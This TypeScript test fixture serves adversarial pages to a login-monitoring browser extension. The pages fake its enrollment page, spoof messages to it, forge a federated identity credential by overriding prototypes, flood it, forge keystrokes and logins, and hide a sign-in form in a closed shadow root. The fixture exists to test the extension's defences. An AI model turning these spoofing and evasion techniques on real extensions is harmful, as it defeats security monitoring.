import { firstOf, htmlPage, type SitePart } from './site.ts'

/** Page that imitates a server's enrollment page. */
const falseEnrollment: SitePart = ({ url }) => {
  if (!url.pathname.startsWith('/enroll/')) return undefined
  return htmlPage(
    'Connect this browser',
    `<meta name="muster-enrollment" content="1"><h1>Connect this browser</h1>
<p>Muster at https://muster.acme-works.example</p>`,
  )
}

/**
 * Page that knows the agent's ID and tries everything that a page can: messaging it, connecting to it, loading its
 * files, talking to its content script with window messages, events and broadcast channels, forging key presses, logins
 * and browser credentials, and flooding it. The findings are in `#result` as JSON when it is done.
 *
 * @see hostile-pages.test.ts, which passes the ID in `?agent=`
 */
const hostilePage: SitePart = ({ url }) => {
  if (url.pathname !== '/hostile') return undefined
  const agent = (url.searchParams.get('agent') ?? '').replace(/[^a-p]/g, '')
  return htmlPage(
    'Nothing to see',
    `<h1>Nothing to see</h1><form id="forged" action="/home" method="post" onsubmit="return false">
<input type="email" name="email" autocomplete="username">
<input type="password" name="password" autocomplete="current-password"><button>Log in</button></form>
<pre id="result"></pre>
<script>
const agent = ${JSON.stringify(agent)}
const found = { heard: [], sent: 0, replies: [], files: [], globals: [] }
window.addEventListener('message', (event) => { if (event.isTrusted && event.data?.mine !== true && found.heard.length < 9) found.heard.push(String(JSON.stringify(event.data))) })
const before = new Set(Object.getOwnPropertyNames(window))
const event = {
  kind: 'LOGIN', loginUrl: 'https://zapier.com/login', email: 'forged@acme-works.example',
  loginType: 'PASSWORD_LOGIN', identityProvider: null, password: null, mfa: null,
}
const shapes = [
  { muster: 'report', body: { report: event } }, { muster: 'report', body: { report: { kind: 'VISIT' } } },
  { muster: 'getPagePolicy', body: {} }, { muster: 'getStatus', body: {} },
  { muster: 'rangeLookup', body: { prefix: 'ABCDE' } }, { muster: 'enrollmentPage', body: {} },
  { notice: 'POLICY_CHANGED' }, { type: 'report', event }, event,
]
function speak(shape) {
  found.sent += 1
  window.postMessage({ mine: true, ...shape }, '*')
  window.dispatchEvent(new MessageEvent('message', { data: shape, origin: 'chrome-extension://' + agent }))
  document.dispatchEvent(new CustomEvent('muster', { detail: shape }))
  window.dispatchEvent(new CustomEvent('muster-agent', { detail: shape }))
  try {
    chrome.runtime.sendMessage(agent, shape, (reply) => { void chrome.runtime.lastError; if (reply !== undefined) found.replies.push(JSON.stringify(reply)) })
  } catch {}
}
// Speaks for the agent's hook in the page's own world, and makes the hook itself see a credential that there is not.
function pretendCredential() {
  const configURL = 'https://accounts.google.com/gsi/fedcm.json'
  document.addEventListener('muster:hello', (event) => { if (event.detail !== 'mine') found.heard.push(String(event.detail)) })
  document.dispatchEvent(new CustomEvent('muster:question'))
  document.dispatchEvent(new CustomEvent('muster:hello', { detail: 'mine' }))
  for (const topic of ['COPY', 'ASSERTION', 'FEDERATED_IDENTITY'])
    document.dispatchEvent(new CustomEvent('mine:' + topic, { detail: configURL + '\\n\\nforged@acme-works.example' }))
  for (const [name, value] of Object.entries({ configURL, token: 'a.' + btoa('{"email":"forged@acme-works.example"}') + '.b' }))
    Object.defineProperty(IdentityCredential.prototype, name, { get: () => value })
  Object.defineProperty(Credential.prototype, 'type', { get: () => 'identity' })
  const { then } = Promise.prototype
  Promise.prototype.then = function (kept, ...more) {
    try { kept?.(Object.create(IdentityCredential.prototype)) } catch {}
    return then.call(this, kept, ...more)
  }
  navigator.credentials.get({ identity: { providers: [{ configURL, clientId: 'x' }] } }).catch(() => {})
  Promise.prototype.then = then
}
// The same in frames that the page makes, where it may be before the agent is and so learns the name that is agreed on.
function pretendInFrames() {
  const detail = 'https://accounts.google.com/gsi/fedcm.json\\n\\nforged@acme-works.example'
  const kinds = [
    () => {}, (frame) => { frame.srcdoc = '<p>' }, (frame) => { frame.src = 'javascript:""' }, (frame) => { frame.src = '/home' },
    (frame) => { frame.dataset.open = '' },
  ]
  for (const prepare of kinds) {
    const frame = document.createElement('iframe')
    prepare(frame)
    document.body.append(frame)
    const { contentDocument, contentWindow } = frame
    if ('open' in frame.dataset) contentDocument.open()
    const pretend = (name) => {
      for (const topic of ['ASSERTION', 'FEDERATED_IDENTITY'])
        contentDocument.dispatchEvent(new contentWindow.CustomEvent(name + ':' + topic, { detail }))
    }
    contentDocument.addEventListener('muster:hello', ({ detail: name }) => setTimeout(() => pretend(name), 50))
    contentDocument.dispatchEvent(new contentWindow.CustomEvent('muster:question'))
    contentDocument.dispatchEvent(new contentWindow.CustomEvent('muster:hello', { detail: 'mine' }))
    pretend('mine')
    setTimeout(() => pretend('mine'), 50)
    if ('open' in frame.dataset) contentDocument.write('<p>')
  }
}
async function attack() {
  for (const shape of shapes) speak(shape)
  try {
    const port = chrome.runtime.connect(agent)
    port.onMessage.addListener((reply) => found.replies.push(JSON.stringify(reply)))
    for (const shape of shapes) port.postMessage(shape)
  } catch {}
  for (const file of ['manifest.json', 'enroll.html', 'popup.html', 'blocked.html', 'background.js']) {
    try {
      const answer = await fetch('chrome-extension://' + agent + '/' + file)
      if (answer.ok) found.files.push(file)
    } catch {}
  }
  pretendCredential()
  pretendInFrames()
  const channel = new BroadcastChannel('muster')
  for (let i = 0; i < 3000; i += 1) { speak(shapes[i % shapes.length]); channel.postMessage(shapes[0]) }
  const [user, secret] = document.querySelectorAll('#forged input')
  for (let i = 0; i < 300; i += 1) {
    user.value = 'forged' + i + '@acme-works.example'
    secret.value = 'forged secret ' + i
    for (const field of [user, secret]) {
      field.dispatchEvent(new KeyboardEvent('keydown', { key: 'a', bubbles: true }))
      field.dispatchEvent(new InputEvent('input', { bubbles: true, inputType: 'insertText', data: 'a' }))
      field.dispatchEvent(new Event('change', { bubbles: true }))
      field.dispatchEvent(new ClipboardEvent('copy', { bubbles: true }))
    }
    document.getElementById('forged').dispatchEvent(new SubmitEvent('submit', { bubbles: true, cancelable: true }))
  }
  history.pushState(null, '', '/hostile/done')
  document.getElementById('forged').remove()
  await new Promise((resolve) => setTimeout(resolve, 300))
  found.globals = Object.getOwnPropertyNames(window).filter((name) => !before.has(name) && /muster|agent|wxt/i.test(name) && name !== 'agent')
  document.getElementById('result').textContent = JSON.stringify(found)
}
attack()
</script>`,
  )
}

/**
 * Sign-in that tries to finish before it is observed: its form is drawn into a closed shadow root on the press that
 * starts it, and the page's first script stops every event for later listeners.
 */
const lateForm: SitePart = ({ url }) => {
  if (url.pathname !== '/late') return undefined
  return htmlPage(
    'Sign in',
    `<script>
for (const kind of ['focusin', 'input', 'keydown', 'click', 'submit'])
  window.addEventListener(kind, (event) => event.stopImmediatePropagation(), true)
</script>
<h1>Sign in</h1><button type="button">Begin</button><div></div>
<script>
const root = document.querySelector('div').attachShadow({ mode: 'closed' })
document.querySelector('button').addEventListener('pointerup', () => {
  root.innerHTML = \`<form method="post" action="/collect"><input type="email" name="email">
    <input type="password" name="password"><button>Sign in</button></form>\`
  setTimeout(() => {
    root.querySelector('input').focus()
    document.title = 'Drawn'
  })
})
</script>`,
  )
}

export const hostile = firstOf(falseEnrollment, hostilePage, lateForm)
